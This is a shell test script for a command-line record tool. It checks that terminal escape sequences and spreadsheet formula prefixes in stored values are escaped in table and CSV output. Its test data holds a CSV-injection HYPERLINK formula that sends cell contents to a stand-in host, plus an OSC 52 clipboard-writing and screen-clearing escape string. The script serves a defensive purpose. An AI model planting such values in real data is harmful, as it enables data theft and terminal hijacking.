#!/usr/bin/env bash
# Record data cannot drive the terminal or a spreadsheet: ESC/OSC sequences in
# a value are shown as visible escapes in tables, and neutralised in CSV along
# with the spreadsheet formula prefixes (= + - @ tab CR; OWASP CSV injection),
# while a plain number such as -5 stays data. --raw-csv keeps the raw bytes.
. "$(dirname "$0")/lib.sh"
start_sandbox

ESC=$(printf '\033')
BEL=$(printf '\007')
HOSTILE=$(printf '\033]52;c;aGVsbG8=\007\033[2J')
op --retries 0 objects create "firstname=$HOSTILE" lastname=Evil email=evil@example.com -o json
assert_rc 0 "create a contact with escapes in its first name"
ID=$(printf '%s' "$OUT" | jq -r .id)
op --retries 0 objects create 'firstname==HYPERLINK("http://x.example/?"&A1,"hi")' lastname=-5 \
	email=formula@example.com -o json
assert_rc 0 "create a contact with a formula"
op --retries 0 objects create firstname=+1+cmd lastname=@SUM email=plus@example.com -o json
assert_rc 0 "create a contact with + and @"
op --retries 0 objects create "firstname=$(printf '\tTab')" lastname=-2+3 email=tab@example.com -o json
assert_rc 0 "create a contact with a leading tab"

# Tables: no control byte reaches the terminal; the escapes are visible.
for args in "objects search -o table" "objects get $ID -o table"; do
	# shellcheck disable=SC2086
	op --retries 0 $args
	assert_rc 0 "$args"
	assert_not_contains "$OUT" "$ESC" "$args: raw ESC"
	assert_not_contains "$OUT" "$BEL" "$args: raw BEL"
	assert_contains "$OUT" '\x1b]52;c;aGVsbG8=\x07\x1b[2J' "$args: visible escapes"
done

# CSV: controls escaped, formulas quoted with a leading ', plain numbers kept.
op --retries 0 objects search -o csv --fields firstname,lastname,email
assert_rc 0 "csv"
assert_not_contains "$OUT" "$ESC" "csv: raw ESC"
assert_not_contains "$OUT" "$BEL" "csv: raw BEL"
assert_contains "$OUT" '\x1b]52;c;aGVsbG8=\x07\x1b[2J,Evil,evil@example.com' "csv: escapes"
Q="'"
assert_contains "$OUT" '"'$Q'=HYPERLINK(""http://x.example/?""&A1,""hi"")",-5,formula@example.com' "csv: = formula"
assert_contains "$OUT" "\"'+1+cmd\",\"'@SUM\",plus@example.com" "csv: + and @"
assert_contains "$OUT" "\"'$(printf '\t')Tab\",\"'-2+3\",tab@example.com" "csv: tab and -2+3"

# --raw-csv: the bytes as stored (still RFC 4180 quoting).
op --retries 0 --raw-csv objects search -o csv --fields firstname,lastname,email
assert_rc 0 "csv --raw-csv"
assert_contains "$OUT" "$HOSTILE,Evil,evil@example.com" "--raw-csv keeps the escapes"
assert_contains "$OUT" '"=HYPERLINK(""http://x.example/?""&A1,""hi"")",-5,formula@example.com' "--raw-csv keeps the formula"

# ndjson/json are escaped by JSON itself.
op --retries 0 objects search -o ndjson
assert_not_contains "$OUT" "$ESC" "ndjson: raw ESC"
finish
